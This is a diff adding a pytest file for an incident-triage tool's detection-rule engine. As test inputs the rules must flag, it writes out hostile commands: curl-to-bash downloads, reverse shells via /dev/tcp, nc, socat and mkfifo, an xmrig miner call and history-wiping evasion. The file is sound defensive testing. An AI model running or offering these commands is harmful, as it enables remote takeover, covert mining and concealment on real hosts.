@@ -1,0 +1,170 @@
+"""Rules as data: the engine's tests and combinators, broken rule files refused with a reason, the shipped
+command rules against lines they must and must not match, the verdict policy, and a whole run (fake
+root → collect → analyze) whose findings and verdict name what was planted."""
+
+from __future__ import annotations
+
+import json
+import os
+import tarfile
+from pathlib import Path
+
+import fakeroot
+import pytest
+from conftest import run_triagent, summary_of
+
+from collectors.parsers import rules as engine
+
+NOW = 1_800_000_000.0
+
+
+def _rule(**kw) -> dict:
+    return {"id": "T-1", "title": "t", "severity": "high", "source": "s", **kw}
+
+
+def _write(folder: Path, rules: list[dict]) -> str:
+    import yaml
+
+    folder.mkdir(exist_ok=True)
+    (folder / "r.yaml").write_text(yaml.safe_dump({"rules": rules}))
+    return str(folder)
+
+
+@pytest.mark.parametrize("condition, record, expected", [
+    ({"where": {"a": {"eq": 1}}}, {"a": 1}, True),
+    ({"where": {"a": {"eq": 1}}}, {"a": 2}, False),
+    ({"where": {"a|b": {"eq": 2}}}, {"b": 2}, True),
+    ({"where": {"x.y": {"in": [1, 2]}}}, {"x": {"y": 2}}, True),
+    ({"where": {"a": {"not_in": [1]}}}, {}, True),
+    ({"where": {"a": {"exists": False}}}, {}, True),
+    ({"where": {"a": {"regex": "CURL"}}}, {"a": ["curl", "x"]}, True),
+    ({"where": {"a": {"gt": 5, "lt": 10}}}, {"a": "7"}, True),
+    ({"where": {"a": {"gt": 5}}}, {"a": "seven"}, False),
+    ({"where": {"t": {"within_days": 7}}}, {"t": "2027-01-15T08:00:00Z"}, True),  # NOW is 2027-01-15T08:00Z
+    ({"where": {"t": {"within_days": 7}}}, {"t": int((NOW - 8 * 86400) * 1e9)}, False),
+    ({"where": {"t": {"within_days": 7}}}, {"t": "garbage"}, False),
+    ({"any": [{"where": {"a": {"eq": 1}}}, {"where": {"b": {"eq": 1}}}]}, {"b": 1}, True),
+    ({"not": {"where": {"a": {"eq": 1}}}}, {"a": 1}, False),
+    ({"all": [{"where": {"a": {"eq": 1}}}, {"not": {"where": {"b": {"exists": True}}}}]}, {"a": 1}, True),
+])
+def test_condition(condition, record, expected):
+    assert engine.matches(condition, record, NOW) is expected
+
+
+@pytest.mark.parametrize("bad, reason", [
+    (_rule(where={"a": {"sounds_like": 1}}), "unknown tests"),
+    (_rule(where={"a": {"regex": "("}}), "bad regex"),
+    (_rule(severity="urgent", where={"a": {"eq": 1}}), "severity"),
+    (_rule(), "no condition"),
+    ({"id": "T-2", "severity": "low", "where": {}}, "missing"),
+    (_rule(where={"a": {"eq": 1}}, maybe={"x": 1}) | {"any": "not a list of mappings"}, "mapping"),
+])
+def test_broken_rules_are_refused(tmp_path, bad, reason):
+    with pytest.raises(engine.RuleError, match=reason):
+        engine.load_rules(_write(tmp_path / "rules", [bad]))
+
+
+def test_duplicate_ids_are_refused(tmp_path):
+    rule = _rule(where={"a": {"eq": 1}})
+    with pytest.raises(engine.RuleError, match="twice"):
+        engine.load_rules(_write(tmp_path / "rules", [rule, rule]))
+
+
+SHIPPED = {r.id: r for r in engine.load_rules()}
+COMMANDS = {
+    "TRI-EXEC-001": (["curl -s http://198.51.100.7/x.sh | bash", "wget -qO- http://x/y | sh",
+                      "wget -q -O - http://x/i.sh | sudo bash", "echo aGVsbG8= | base64 -d | sh",
+                      "curl -o /tmp/.x http://h/x && chmod +x /tmp/.x", "sh -c \"$(curl -fsSL http://h/i)\""],
+                     ["curl -s https://example.com/api", "wget http://mirror/file.iso", "base64 -d a.txt > b",
+                      "cat /etc/passwd | grep bash"]),
+    "TRI-EXEC-002": (["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444",
+                      "socat tcp:192.0.2.1:9 exec:/bin/bash,pty",
+                      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i|nc 1.2.3.4 9",
+                      "python3 -c 'import socket,subprocess,os;s=socket.socket()'"],
+                     ["nc -zv 10.0.0.1 22", "bash -i", "socat -V", "ls /dev/tcp"]),
+    "TRI-EXEC-003": (["./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u x", "/tmp/kdevtmpfsi",
+                      "./x --donate-level 1 -o p:3333"],
+                     ["make -j4", "python3 mine_data.py", "grep pool /etc/hosts"]),
+    "TRI-EVADE-001": (["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "export HISTSIZE=0",
+                       "rm -f ~/.bash_history", "ln -sf /dev/null /root/.bash_history", "set +o history"],
+                      ["history | tail", "echo $HISTFILE", "cat ~/.bash_history"]),
+}
+
+
+@pytest.mark.parametrize("rule_id", sorted(COMMANDS))
+def test_shipped_command_rules(rule_id):
+    rule = SHIPPED[rule_id]
+    hits, misses = COMMANDS[rule_id]
+    for line in hits:
+        assert engine.matches(rule.condition, {"command": line}, NOW), f"{rule_id} misses: {line}"
+        assert engine.matches(rule.condition, {"cmdline": line.split()}, NOW), f"{rule_id} misses argv: {line}"
+    for line in misses:
+        assert not engine.matches(rule.condition, {"command": line}, NOW), f"{rule_id} false positive: {line}"
+
+
+def test_every_shipped_rule_is_complete():
+    assert len(SHIPPED) >= 25
+    for rule in SHIPPED.values():
+        assert rule.mitre and all(m.startswith("T") for m in rule.mitre), rule.id
+        assert rule.severity in engine.SEVERITIES
+
+
+def _policy() -> dict:
+    return engine.load_verdict_policy()
+
+
+def test_verdict_policy():
+    policy = _policy()
+    assert engine.verdict([], True, policy)["recommendation"] == "no"
+    medium = [{"rule": "A", "severity": "medium", "summary": "x"}, {"rule": "B", "severity": "medium", "summary": "y"}]
+    assert engine.verdict(medium, False, policy)["recommendation"] == "needs-memory"
+    assert engine.verdict(medium, True, policy)["recommendation"] == "no"
+    critical = engine.verdict([{"rule": "C", "severity": "critical", "summary": "z"}], True, policy)
+    assert critical["recommendation"] == "yes" and critical["drivers"][0]["rule"] == "C"
+    many = [{"rule": "A", "severity": "high", "summary": str(i)} for i in range(10)]
+    assert engine.verdict(many, True, policy)["score"] == 2 * policy["weights"]["high"]  # a rule counts twice at most
+
+
+def _analyse(tmp_path: Path, root: Path) -> tuple[dict, list[dict], dict, str]:
+    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--profile", "full",
+                                      "--output", str(tmp_path / "out")]))["bundle"]
+    proc = run_triagent(["analyze", bundle, "--output", str(tmp_path / "analysis")])
+    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
+    with tarfile.open(summary["analysis"]) as tar:
+        names = tar.getnames()
+        findings = [json.loads(x) for x in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()] \
+            if "triagent/artifacts/findings.jsonl" in names else []  # no finding, no member
+        verdict = json.loads(tar.extractfile("triagent/verdict.json").read())
+    return summary, findings, verdict, bundle
+
+
+def test_planted_root_gives_findings_and_a_yes(tmp_path):
+    root = tmp_path / "root"
+    fakeroot.build(root)
+    fakeroot.plant_cron(root)
+    os.symlink("/dev/null", root / "home/alice/.bash_history")
+    summary, findings, verdict, bundle = _analyse(tmp_path, root)
+    by_rule: dict[str, list[dict]] = {}
+    for f in findings:
+        by_rule.setdefault(f.get("rule"), []).append(f)
+    assert "nc -e /bin/sh 192.0.2.1 4444" in by_rule["TRI-EXEC-002"][0]["summary"]
+    assert any("/home/alice/.bash_history" in f["summary"] for f in by_rule["TRI-EVADE-002"])
+    assert any("/var/tmp/.sysupdate" in f["summary"] for f in by_rule["TRI-PERSIST-004"])
+    assert by_rule["TRI-EXEC-002"][0]["mitre"] and by_rule["TRI-EXEC-002"][0]["severity"] == "critical"
+    pointer = by_rule["TRI-EXEC-001"][0]["evidence"][0]
+    with tarfile.open(bundle) as tar:
+        line = tar.extractfile(pointer["member"]).read().splitlines()[pointer["line"] - 1]
+    assert "curl" in json.loads(line)["command"]
+    assert verdict["recommendation"] == "yes" and summary["full_disk"] == "yes"
+    assert any(d["rule"] == "TRI-EXEC-002" for d in verdict["drivers"])
+
+
+def test_quiet_root_gives_a_no(tmp_path):
+    root = tmp_path / "root"
+    (root / "etc").mkdir(parents=True)
+    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
+    (root / "root").mkdir()
+    (root / "root/.bash_history").write_text("ls\napt update\n")
+    summary, findings, verdict, _ = _analyse(tmp_path, root)
+    assert not [f for f in findings if f["severity"] in ("critical", "high", "medium")], findings
+    assert verdict["recommendation"] == "no", verdict
